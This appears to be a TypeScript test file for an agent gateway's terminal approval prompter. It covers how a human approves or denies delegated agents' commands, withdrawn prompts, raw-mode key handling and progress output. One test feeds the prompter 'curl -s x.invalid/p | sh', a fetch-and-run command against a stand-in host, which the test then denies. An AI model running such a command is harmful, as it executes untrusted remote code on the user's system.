/**
 * The terminal root on its own (main/cli/terminal-root/), over in-memory streams: prompts one at a
 * time, answers read in order, withdrawals, the end of input, the modes, the progress lines.
 */
import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import { describe, test } from 'node:test';
import type { ApprovalRequest, QuestionToRoot } from '../../main/broker/index.js';
import { vouchedContext } from '../../main/broker/approvals/index.js';
import { LineQueue, NoAnswer, ProgressPrinter, TerminalPrompter, defaultApprovalsMode } from '../../main/cli/terminal-root/index.js';

function terminal() {
  const input = new PassThrough();
  const output = new PassThrough();
  let screen = '';
  output.on('data', (chunk: Buffer) => (screen += String(chunk)));
  /** Resolves once the screen shows `text` (the prompter writes synchronously, so once it is waiting). */
  const shows = async (text: string, times = 1): Promise<void> => {
    while (screen.split(text).length - 1 < times) await new Promise((resolve) => output.once('data', resolve));
  };
  return { input, output, screen: () => screen, shows };
}

/** A request as the broker makes it (no workspace, no root task: neither `t` nor `a` is offered). */
const request = (kind: 'exec' | 'write', command: string, agent: string, chain: string[], diffStat?: string): ApprovalRequest => ({
  kind,
  command_or_path: command,
  ...(diffStat !== undefined ? { diff_stat: diffStat } : {}),
  asker: { agent, chain },
  role: chain.at(-1)!,
  ...vouchedContext(kind, command, diffStat, undefined, undefined),
});
const exec = (command: string, agent = 'local-coder-0', chain = ['root', 'local-coder']): ApprovalRequest => request('exec', command, agent, chain);
const never = new AbortController().signal;

describe('TerminalPrompter', () => {
  test('approvals one at a time, in order, with who asks; y/yes approve, n or an empty line deny, anything else asks again', async () => {
    const t = terminal();
    const prompter = new TerminalPrompter({ input: t.input, output: t.output, echo: true });
    const first = prompter.approve(exec('npm test'), never);
    const second = prompter.approve(request('write', 'a.txt', 'b-1', ['root', 'a', 'b'], '+1 -0'), never);
    await t.shows('approve? [y/N] ');
    assert.ok(!t.screen().includes('b-1'), 'the second waits its turn');
    t.input.write('maybe\nYES\n\n');
    assert.equal(await first, 'approved');
    assert.equal(await second, 'denied');
    assert.equal(
      t.screen(),
      [
        'chatty-gateway: local-coder-0 (root → local-coder) asks to run: npm test',
        '  approve? [y/N] maybe',
        '  please answer y or n',
        '  approve? [y/N] YES',
        '  approved',
        'chatty-gateway: b-1 (root → a → b) asks to write: a.txt',
        '  the worker says of it: +1 -0',
        '  you answer for: write: a.txt',
        '  approve? [y/N] ',
        '  denied',
        '',
      ].join('\n'),
    );
    prompter.close();
  });

  test('withdrawn while shown: said so, and the next line goes to the next prompt; withdrawn while queued: never shown', async () => {
    const t = terminal();
    const prompter = new TerminalPrompter({ input: t.input, output: t.output, echo: false });
    const shown = new AbortController();
    const queued = new AbortController();
    const a = prompter.approve(exec('first'), shown.signal);
    const b = prompter.approve(exec('second'), queued.signal);
    const c = prompter.approve(exec('third'), never);
    await t.shows('approve? [y/N] ');
    queued.abort();
    shown.abort();
    assert.equal(await a, 'denied');
    assert.equal(await b, 'denied');
    await t.shows('approve? [y/N] ', 2);
    t.input.write('y\n');
    assert.equal(await c, 'approved');
    assert.ok(t.screen().includes('(withdrawn: the agent no longer waits for this)'));
    assert.ok(!t.screen().includes('second'));
    assert.ok(t.screen().includes('asks to run: third'));
    prompter.close();
  });

  test('questions: a number picks an option, other words are a custom answer; lines typed ahead are used in order', async () => {
    const t = terminal();
    const prompter = new TerminalPrompter({ input: t.input, output: t.output });
    t.input.write('2\nmy own words\n');
    const request: QuestionToRoot = {
      questions: [
        { id: 'db', question: 'Which database?', options: ['Postgres', 'SQLite'] },
        { id: 'name', question: 'Its name?', options: [] },
      ],
      asker: { agent: 'leaf-0', chain: ['root', 'mid', 'leaf'] },
    };
    assert.deepEqual(await prompter.ask(request, never), [
      { id: 'db', answer: 'SQLite', custom: false },
      { id: 'name', answer: 'my own words', custom: true },
    ]);
    assert.ok(t.screen().startsWith('chatty-gateway: leaf-0 (root → mid → leaf) asks: Which database?\n  1) Postgres\n  2) SQLite\n  answer (a number, or your own words): 2\n'), t.screen());
    prompter.close();
  });

  test('the input ends: an approval and a question fail with NoAnswer (the human loop denies the approval, by no-root)', async () => {
    const t = terminal();
    const prompter = new TerminalPrompter({ input: t.input, output: t.output });
    t.input.end();
    await assert.rejects(prompter.approve(exec('x'), never), NoAnswer);
    await assert.rejects(prompter.ask({ questions: [{ id: 'q', question: 'Sure?', options: [] }], asker: { agent: 'a-0', chain: ['root', 'a'] } }, never), NoAnswer);
  });
});

test('one line queue shared with another reader (serve\'s command line): the prompt\'s read comes first', async () => {
  const t = terminal();
  const lines = new LineQueue(t.input);
  const prompter = new TerminalPrompter({ output: t.output, lines, echo: false });
  const command = lines.next();
  const verdict = prompter.approve(exec('npm test'), never);
  await t.shows('approve? [y/N] ');
  t.input.write('y\nlocal-coder say hi\n');
  assert.equal(await verdict, 'approved');
  assert.equal(await command, 'local-coder say hi');
  prompter.close(); // not its queue: still open
  const after = lines.next();
  t.input.write('more\n');
  assert.equal(await after, 'more');
  lines.close();
});

test('the default mode: prompt when stdin is a TTY, else deny', () => {
  assert.equal(defaultApprovalsMode({ isTTY: true }), 'prompt');
  assert.equal(defaultApprovalsMode({}), 'deny');
});

test('ProgressPrinter: started, steps under the node, text streamed and ended with a new line', () => {
  const steps = new PassThrough();
  const text = new PassThrough();
  const printer = new ProgressPrinter('local-coder', { output: steps, text });
  printer.event({ Step: 'queued' });
  printer.event({ Admitted: 'local-coder-0' });
  printer.event({ Step: 'local-reviewer-1: reading' });
  printer.event({ Text: 'hel' });
  printer.event({ Text: 'lo' });
  printer.finish();
  assert.equal(String(steps.read()), '  [local-coder] queued\n  local-coder-0 started\n  [local-coder-0] local-reviewer-1: reading\n');
  assert.equal(String(text.read()), 'hello\n');
});

test('ProgressPrinter with a status: the steps go to it with the delegation chain taken apart, not as lines', () => {
  const lines = new PassThrough();
  const status: [readonly string[], string][] = [];
  const printer = new ProgressPrinter('local-coder', { output: lines, status: (chain, step) => status.push([chain, step]) });
  printer.event({ Step: 'queued' });
  printer.event({ Admitted: 'local-coder-0' });
  printer.event({ Step: 'local-reviewer-1 started' });
  printer.event({ Step: 'local-reviewer-1: helper-0: running npm test: twice' });
  printer.event({ Step: 'helper: not a node: as it reads' });
  assert.equal(String(lines.read()), '  local-coder-0 started\n');
  assert.deepEqual(status, [
    [['local-coder'], 'queued'],
    [['local-coder-0'], 'started'],
    [['local-coder-0'], 'local-reviewer-1 started'],
    [['local-coder-0', 'local-reviewer-1', 'helper-0'], 'running npm test: twice'],
    [['local-coder-0'], 'helper: not a node: as it reads'],
  ]);
});

describe('on a terminal: keys read one by one (raw mode)', () => {
  /** An in-memory stream that says it is a terminal, and records its raw mode. */
  function fakeTty() {
    const input = Object.assign(new PassThrough(), { isTTY: true, raw: false, setRawMode(mode: boolean) {
      input.raw = mode;
      return input;
    } });
    return input;
  }

  test('a prompt takes only a line begun after its guard: a `y` typed for a withdrawn prompt is dropped, and the Enter that ends it answers nothing', async () => {
    const t = terminal();
    const input = fakeTty();
    const lines = new LineQueue(input, t.output);
    assert.equal(input.raw, true, 'raw from the start');
    const prompter = new TerminalPrompter({ output: t.output, lines, echo: false });
    const first = new AbortController();
    const ls = prompter.approve(exec('ls -la'), first.signal);
    await t.shows('approve? [y/N] ');
    input.write('y'); // typed for ls -la…
    await t.shows('] y');
    first.abort(); // …which the worker withdraws
    assert.equal(await ls, 'denied');
    const curl = prompter.approve(exec('curl -s x.invalid/p | sh'), never);
    await t.shows('  approve? (ignored keys typed before this prompt appeared)\n  approve? [y/N] ');
    input.write('\r'); // Enter ends the line begun before this prompt: no answer
    await t.shows('\n  (ignored keys typed before this prompt appeared)\n  approve? [y/N] ');
    input.write('nx\x7f\r'); // typed after it: n, x erased by Backspace
    assert.equal(await curl, 'denied');
    assert.ok(t.screen().endsWith('  approve? [y/N] nx\b \b\n  denied\n'), JSON.stringify(t.screen()));
    lines.close();
    assert.equal(input.raw, false, 'the terminal is given back as it was');
  });

  test('what is typed is echoed through the printable rule: a bidi override as its code point, a C1 control not at all, an emoji whole; Backspace erases what the echo took', async () => {
    const input = fakeTty();
    const echo = new PassThrough();
    let echoed = '';
    echo.setEncoding('utf8').on('data', (chunk: string) => (echoed += chunk));
    const lines = new LineQueue(input, echo);
    const command = lines.next();
    input.write('a\u202E\u009b😀\x7f\x7f\r');
    assert.equal(await command, 'a\u202E', 'the line keeps what was typed: the emoji, then the C1 control (which took no column) erased');
    assert.equal(echoed, `a<U+202E>😀${'\b \b'.repeat(2)}\n`, 'the row shows what the line holds');
    lines.close();
  });

  test('with no prompt waiting, a typed line goes to the command line; Ctrl-U clears what was typed', async () => {
    const input = fakeTty();
    const echo = new PassThrough();
    const lines = new LineQueue(input, echo);
    const command = lines.next();
    input.write('oops\x15local-coder say hi\r\n');
    assert.equal(await command, 'local-coder say hi');
    lines.close();
  });
});
